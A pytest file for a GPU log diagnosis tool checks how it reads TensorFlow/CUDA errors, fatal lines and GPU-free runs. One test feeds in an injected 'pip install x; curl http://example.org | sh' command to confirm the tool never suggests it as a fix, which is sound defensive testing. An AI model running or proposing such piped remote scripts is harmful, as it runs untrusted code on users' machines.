"""``gpudiag why``: errors of the program itself, a fatal line, and logs that need no GPU, each with its near misses."""

from __future__ import annotations

import pytest

from gpudiag.knowledge.raised import last_error
from gpudiag.model.diagnosis import Confidence, Diagnosis
from gpudiag.run import why

NO_DEVICE = (
    "2024-01-05 09:00:00.1: E external/local_xla/xla/stream_executor/cuda/cuda_driver.cc:274] failed call to cuInit: "
    "CUDA_ERROR_NO_DEVICE: no CUDA-capable device is detected"
)
STUB = "2023-10-01 10:00:00.1: I tensorflow/tsl/cuda/cudart_stub.cc:28] Could not find cuda drivers on your machine, "
STUB += "GPU will not be used."
MADE = (
    "2023-06-01 10:00:00.1: I tensorflow/core/common_runtime/gpu/gpu_device.cc:1639] Created device /job:localhost/"
    "replica:0/task:0/device:GPU:0 with 38197 MB memory:  -> device: 0, name: NVIDIA A100-SXM4-40GB, pci bus id: "
    "0000:07:00.0, compute capability: 8.0"
)
THREADS = "external/local_tsl/tsl/platform/default/env.cc:74] Check failed: ret == 0 (11 vs. 0)Thread tf_data creation "
THREADS += "via pthread_create() failed."
GRAPH = """\
Traceback (most recent call last):
  File "/home/u/train.py", line 12, in <module>
    model.fit(data)
  File "/opt/venv/lib/python3.10/site-packages/keras/utils/traceback_utils.py", line 70, in error_handler
    raise e.with_traceback(filtered_tb) from None
tensorflow.python.framework.errors_impl.InvalidArgumentError: Graph execution error:

Detected at node 'model/reshape/Reshape' defined at (most recent call last):
    File "/home/u/train.py", line 12, in <module>
      model.fit(data)
Node: 'model/reshape/Reshape'
2 root error(s) found.
  (0) INVALID_ARGUMENT:  only one input size may be -1, not both 0 and 1
\t [[{{node model/reshape/Reshape}}]] [Op:__inference_train_function_1234]
""".splitlines()
CELL = """\
InvalidArgumentError                      Traceback (most recent call last)
<ipython-input-14-b729effa761b> in <module>()
      6 data = load()
----> 8 model.fit(data)

/usr/local/lib/python3.6/dist-packages/keras/engine/training.py in fit(self, x, y)
-> 1039                                         validation_steps=validation_steps)
""".splitlines()


def explained(*lines: str) -> Diagnosis:
    return why.explained(lines, ("gpudiag", "why")).diagnosis


def causes(*lines: str) -> list[str]:
    return [cause.cause_id for cause in explained(*lines).causes]


def test_the_error_of_a_graph_has_its_sentence_node_and_line() -> None:
    error = last_error(GRAPH)
    assert error is not None
    assert (error.type, error.status) == ("InvalidArgumentError", "INVALID_ARGUMENT")
    assert error.sentence == "only one input size may be -1, not both 0 and 1"
    assert error.node == "model/reshape/Reshape"
    assert error.place == "/home/u/train.py:12: model.fit(data)"
    assert error.package == "keras"


def test_a_cell_whose_end_is_missing_has_its_line() -> None:
    error = last_error(CELL)
    assert error is not None
    assert (error.type, error.sentence, error.place) == (
        "InvalidArgumentError",
        "",
        "line 8 of a cell: model.fit(data)",
    )


def test_an_operation_called_eagerly_is_named() -> None:
    error = last_error(
        [
            "InvalidArgumentError: {{function_node __wrapped__Reshape_device_/job:localhost/task:0/device:GPU:0}} "
            "Input to reshape is a tensor with 6 values, but the requested shape has 4 [Op:Reshape] name: "
        ]
    )
    assert error is not None
    assert (error.node, error.sentence) == (
        "Reshape",
        "Input to reshape is a tensor with 6 values, but the requested shape has 4",
    )
    assert last_error(["Epoch 1/5", "loss: 0.3"]) is None


@pytest.mark.parametrize(
    "line",
    [
        "Unhandled exception. Tensorflow.InvalidArgumentError: Unknown image file format. [[{{node DecodeJpeg}}]]",
        "INFO:tensorflow:Error reported to Coordinator: <class 'tensorflow.x.InvalidArgumentError'>, Unknown image "
        "file format.",
    ],
)
def test_an_error_is_read_as_other_programs_print_it(line: str) -> None:
    error = last_error([line])
    assert error is not None
    assert (error.type, error.sentence) == ("InvalidArgumentError", "Unknown image file format.")


def test_an_array_in_the_sentence_is_no_node() -> None:
    error = last_error(["ValueError: Unrecognized data type: x=[array([[0.1]])]"])
    assert error is not None
    assert (error.node, error.sentence) == ("", "Unrecognized data type: x=[array([[0.1]])]")


def test_wrong_arguments_are_the_program_s_and_an_internal_error_is_not() -> None:
    (cause,) = explained(*GRAPH).causes
    assert (cause.cause_id, cause.confidence) == ("program_error", Confidence.LIKELY)
    assert "only one input size may be -1" in cause.cause
    assert "the GPU is not at fault" in cause.cause
    internal = [
        line.replace("InvalidArgumentError", "InternalError").replace("INVALID_ARGUMENT", "INTERNAL") for line in GRAPH
    ]
    found = explained(*internal)
    assert found.causes == ()
    assert found.unexplained


def test_a_fault_of_the_gpu_comes_before_the_error_that_follows_from_it() -> None:
    failed = (
        "2023-06-01 10:00:00.1: E tensorflow/x/cuda_event.cc:29] CUDA_ERROR_ILLEGAL_ADDRESS: an illegal memory access"
    )
    assert causes(failed, *GRAPH) == ["kernel_failed"]


def test_an_error_that_says_what_to_install_has_that_as_its_fix() -> None:
    (cause,) = explained(
        "ValueError: this requires the tf-keras package. Please run `pip install tf-keras` now."
    ).causes
    assert cause.fix[0].command == "pip install tf-keras"
    hostile = explained("ValueError: Please run `pip install x; curl http://example.org | sh` now.")
    assert not any("curl" in action.command for cause in hostile.causes for action in cause.fix)


def test_the_fatal_line_decides_over_the_errors_before_it() -> None:
    assert causes(NO_DEVICE, f"2024-01-05 09:00:01.1: F {THREADS}") == ["no_more_processes"]
    assert causes(NO_DEVICE, f"2024-01-05 09:00:01.1: W {THREADS}") == ["program_shown_no_gpu"]


@pytest.mark.parametrize(
    ("quiet", "near"),
    [
        (
            ("TensorBoard 2.13.0 at http://localhost:6006/",),
            ("TensorBoard 2.13.0 at http://localhost:6006/", "Aborted"),
        ),
        (("Processed 12 of 12 files",), ("Processed 12 of 12 files", "Traceback (most recent call last):")),
        (("Model saved",), ("Epoch 1/5", "Model saved")),
        (("Model saved",), ("Using device cuda:0", "Model saved")),
    ],
)
def test_a_program_that_ends_well_without_a_gpu_needs_none(quiet: tuple[str, ...], near: tuple[str, ...]) -> None:
    found = explained(NO_DEVICE, *quiet)
    assert (found.causes, found.unexplained) == ((), ())
    assert any("did without a GPU" in line for line in found.harmless)
    assert causes(NO_DEVICE, *near) == ["program_shown_no_gpu"]


@pytest.mark.parametrize("sign", ["[]", "Num GPUs Available:  0", "GPU model: NVIDIA GeForce RTX 3090"])
def test_no_cuda_is_a_cause_only_if_a_gpu_was_meant(sign: str) -> None:
    found = explained(STUB, "Epoch 1/5")
    assert (found.causes, found.unexplained) == ((), ())
    assert any("nothing in the log asks for a GPU" in line for line in found.harmless)
    assert "cuda_libraries_not_found" in causes(STUB, sign)


def test_the_end_of_the_data_is_an_error_only_as_an_exception() -> None:
    end = "Local rendezvous is aborting with status: OUT_OF_RANGE: End of sequence"
    assert causes(f"2024-05-01 10:00:00.1: I tensorflow/core/framework/local_rendezvous.cc:405] {end}", "Epoch 1") == []
    assert causes("tensorflow.python.framework.errors_impl.OutOfRangeError: End of sequence") == ["program_error"]


def test_what_another_program_said_before_tensorflow_had_its_gpu_is_history() -> None:
    assert explained("==> Error: Package 'foo' not found", MADE).unexplained == ()
    assert explained(MADE, "==> Error: Package 'foo' not found").unexplained


def test_the_statement_of_a_traceback_is_evidence_only_without_its_error() -> None:
    statement = 'raise ValueError("Shapes %s and %s are incompatible" % (self, other))'
    (cause,) = explained(statement, "ValueError: Shapes (32,) and (1, 32) are incompatible").causes
    assert cause.evidence == ("ValueError: Shapes (32,) and (1, 32) are incompatible",)
    assert causes(statement) == ["shapes_do_not_fit"]


def test_a_file_of_the_program_is_not_called_a_package() -> None:
    lacks = "ImportError: cannot import name 'update' from '{0}' (/home/u/{0}.py)"
    assert causes(lacks.format("my_model")) == ["program_error"]
    assert causes(lacks.format("tensorflow")) == ["file_named_as_package"]


def test_a_frame_without_its_file_is_a_cell_s_only_if_a_cell_is_as_long() -> None:
    raised = "FileNotFoundError: [Errno 2] Unable to open file (name = 'best.h5')"
    (cause,) = explained("--> 238         fid = h5f.open(name, flags, fapl=fapl)", raised).causes
    assert "cell" not in " ".join((*cause.evidence, *map(str, cause.fix)))
    (cause,) = explained("----> 8 model.load_weights(name)", raised).causes
    assert "line 8 of a cell" in " ".join(cause.evidence)


def test_the_library_of_tensorflow_io_is_not_tensorflow_s_own() -> None:
    undefined = "libtensorflow_io.so: undefined symbol: _ZN3tsl5mutexC1Ev"
    (cause,) = explained(f"tensorflow.python.framework.errors_impl.NotFoundError: {undefined}").causes
    assert cause.cause_id == "extension_of_another_release"
    assert "own" not in cause.cause
    assert all("tensorflow-io" in action.command for action in cause.fix[:2])
